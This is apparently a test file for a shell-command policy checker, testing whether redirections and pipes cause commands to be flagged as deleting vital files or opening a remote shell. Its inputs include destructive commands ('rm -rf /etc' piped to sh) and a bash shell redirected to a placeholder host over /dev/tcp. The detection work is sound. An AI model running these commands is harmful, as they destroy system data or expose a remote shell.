import { expect, test } from "vitest";
import { judge } from "../../../../src/core/policy/judge.ts";
import { PLACE } from "../../../attacks/shared-corpus.ts";

const rulesOf = (command: string): readonly string[] => judge(command, PLACE).findings.map(({ rule }) => rule);

test("what goes into a file does not go on", () => {
  expect(rulesOf("echo 'rm -rf /etc' > a.txt | sh")).not.toContain("delete-vital");
  expect(rulesOf("echo 'rm -rf /etc' 2> a.txt | sh")).toContain("delete-vital");
  expect(rulesOf("echo 'rm -rf /etc' > /dev/stdout | sh")).toContain("delete-vital");
});

test("what goes into a file is there for the next command", () => {
  expect(rulesOf("echo 'rm -rf' > a.sh; echo ls > a.sh; sh a.sh")).toEqual(["ordinary"]);
  expect(rulesOf("echo ls > a.sh; echo 'rm -rf /etc' >> a.sh; sh < a.sh")).toContain("delete-vital");
});

test("a shell on the network is a remote shell", () => {
  expect(rulesOf("bash > /dev/tcp/a.example/80")).toContain("remote-shell");
  expect(rulesOf("ls > /dev/tcp/a.example/80")).not.toContain("remote-shell");
});
